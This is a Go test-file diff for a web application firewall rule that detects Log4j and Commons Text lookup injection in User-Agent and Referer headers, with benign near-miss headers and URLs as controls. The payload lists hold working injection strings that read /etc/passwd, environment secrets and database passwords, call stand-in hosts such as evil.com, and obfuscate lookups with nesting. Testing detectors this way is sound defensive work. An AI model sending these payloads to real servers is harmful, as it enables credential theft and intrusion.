@@ -81,3 +81,70 @@ func TestAttack90Shell(t *testing.T) {
 			h("User-Agent truncate titles", "User-Agent", "Keep it short; truncate titles over 80 chars"),
 			h("User-Agent declare", "User-Agent", "we declare; declare nothing else")})
 }
+
+// attack90Lookups are attack 90's lookups of Commons Text's
+// createInterpolator() and Log4j's, each run on real software, as the
+// CRS refuses them in an argument (932130, 930120).
+var attack90Lookups = []string{"Mozilla/5.0 ${file:UTF-8:/etc/passwd}", "${xml:/etc/passwd:/a}",
+	"${properties:/app/application.properties::db.password}", "${url:UTF-8:http://evil/}", "${dns:address|evil.com}",
+	"${spring:spring.datasource.password}", "${bundle:application:db.password}", "${env:AWS_SECRET_ACCESS_KEY}",
+	"${sys:user.home}", "${const:com.example.Config.DB_PASSWORD}", "${base64Decoder:SGVsbG8=}", "${java:version}",
+	"${FILE:UTF-8:/etc/passwd}", "${ file :UTF-8:/etc/passwd}", "${resourceBundle:app:db.password}", "${localhost:name}",
+	"${doc\u212aer:containerId}", "${script:javascript:1+1}"}
+
+// attack90LookupBenign are near misses for the lookups' reading alone:
+// real User-Agents of browsers, bots and SDKs, and prose.
+var attack90LookupBenign = []string{
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+	"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+	"curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/1.1", "Apache-HttpClient/4.5.14 (Java/17.0.2)",
+	"aws-sdk-java/2.20.162 Linux/5.10.199 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS Java/17.0.8 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy",
+	"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+	"the file: a list; env: prod; sys: linux", "Java: version 17"}
+
+// attack90LookupTemplates are near misses in a Referer: a URL whose
+// template was not filled in (${ with a name no lookup has, or no ':').
+var attack90LookupTemplates = []string{"https://example.com/users/${id}/edit", "https://app.example.com/search?q=${query}&page=${page:1}",
+	"https://example.com/${lang}/docs", "https://cdn.example.com/${env}/app.js", "https://example.com/?tpl=${envName:prod}",
+	"https://shop.example.com/p/${product.sku}", "https://example.com/a?x=${java}", "https://example.com/${fileId}:view",
+	"https://example.com/${ sysop }/", "https://example.com/$${file}", "https://example.com/${server.port:8080}/x",
+	"https://example.com/${dateFormat:yyyy}"}
+
+// TestAttack90Lookups: rule 210225 refuses attack 90's lookups in the
+// User-Agent and the Referer, which the CRS alone lets through there (it
+// refuses them in an argument, and ${jndi: and nested ones everywhere),
+// and no real User-Agent or Referer with a template.
+func TestAttack90Lookups(t *testing.T) {
+	for _, v := range concat(attack90LookupTemplates, []string{"${", "x${", "${${", "${file", "${filex:", "${${}"}) {
+		if javaLookup(v) {
+			t.Errorf("210225 matches the benign %q", v)
+		}
+	}
+	for _, v := range []string{"${${lower:f}ile:/etc/passwd}", "${${::-f}ile:/etc/passwd}", "${f${::-i}le:/etc/passwd}", "${jndi:ldap://e/a}"} {
+		if !javaLookup(v) {
+			t.Errorf("210225 misses %q", v)
+		}
+	}
+	operatorTable(t, "210225", javaLookup, nil, attack90Lookups, attack90LookupBenign)
+	h := headerProbe
+	var misses, passes []probe
+	for i, v := range attack90Lookups {
+		if i%2 == 0 {
+			misses = append(misses, h("User-Agent "+v, "User-Agent", v))
+		} else {
+			misses = append(misses, h("Referer "+v, "Referer", v))
+		}
+	}
+	for _, v := range attack90LookupBenign {
+		passes = append(passes, h("User-Agent "+v, "User-Agent", v))
+	}
+	for _, v := range attack90LookupTemplates {
+		passes = append(passes, h("Referer "+v, "Referer", v))
+	}
+	runBeyondTheCRS(t,
+		[]probe{h("User-Agent ${jndi:", "User-Agent", "${jndi:ldap://e/a}"), h("Referer nested", "Referer", "${${lower:f}ile:/etc/passwd}")},
+		misses, passes)
+}
